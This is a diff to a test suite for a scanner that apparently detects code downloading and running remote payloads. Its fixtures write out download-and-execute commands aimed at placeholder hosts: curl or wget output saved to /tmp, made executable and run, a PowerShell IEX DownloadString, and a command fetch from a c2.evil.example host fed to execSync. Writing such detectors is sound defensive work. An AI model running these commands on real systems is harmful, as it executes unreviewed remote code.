@@ -17,16 +17,29 @@ describe("downloadRunIn", () => {
     expect(downloadRunIn("$(wget -qO- https://x.example/cmd)")).toBe("a download substituted into a shell");
     expect(downloadRunIn("sh -c `curl -s https://x.example/cmd`")).toBe("a download substituted into a shell");
     expect(downloadRunIn("powershell -c \"IEX (New-Object System.Net.WebClient).DownloadString('https://x.example/a')\"")).toBe("PowerShell running a downloaded string");
+    expect(downloadRunIn("curl -fsSL https://x.example/s2 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("curl -sSLo ./agent https://x.example/a; chmod 755 agent")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("wget -q -O install.sh https://x.example/i && sh install.sh --yes")).toBe("a download saved, then run or made executable");
+    expect(downloadRunIn("curl -o /tmp/p.py https://x.example/p; python3 /tmp/p.py")).toBe("a download saved, then run or made executable");
   });
 
   it("leaves downloads kept as files or data alone", () => {
-    for (const line of ["curl -fsSL https://x.example/a.tgz -o a.tgz", "curl -s https://x.example/s | jq .", "wget https://x.example/f && sh ./local.sh", "sh ./setup.sh | tee log", "curl https://x.example | shasum -a 256"]) {
+    for (const line of [
+      "curl -fsSL https://x.example/a.tgz -o a.tgz",
+      "curl -s https://x.example/s | jq .",
+      "wget https://x.example/f && sh ./local.sh",
+      "sh ./setup.sh | tee log",
+      "curl https://x.example | shasum -a 256",
+      "curl -o data.json https://x.example/d && jq . data.json && chmod 644 data.json",
+      "curl -o a.tgz https://x.example/a.tgz && tar xzf a.tgz && ./a/run",
+    ]) {
       expect(downloadRunIn(line), line).toBeUndefined();
     }
   });
 
   it("searches a line of thousands of downloads in linear time", () => {
     expect(downloadRunIn("curl x ".repeat(10_000))).toBeUndefined();
+    expect(downloadRunIn("curl -o f x; ".repeat(5_000))).toBeUndefined();
   });
 });
 
@@ -37,6 +50,8 @@ describe("code a package downloads and runs", () => {
     for (const line of [6, 8, 10, 12, 14, 16]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["high"]);
     expect(at(6)[0]!.message).toBe("Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will");
     for (const line of [20, 22, 24]) expect(at(line).map((finding) => finding.severity), `line ${line}`).toEqual(["info"]);
+    expect(at(30).map((finding) => finding.message)).toEqual(["Runs the commands it downloads (fetch from c2.evil.example: child_process.execSync): commands no reviewer has seen, which their server can change at will"]);
+    expect(at(32).map((finding) => finding.severity)).toEqual(["high"]);
   });
 
   it("is reported besides a detached spawn's finding, each once", () => {
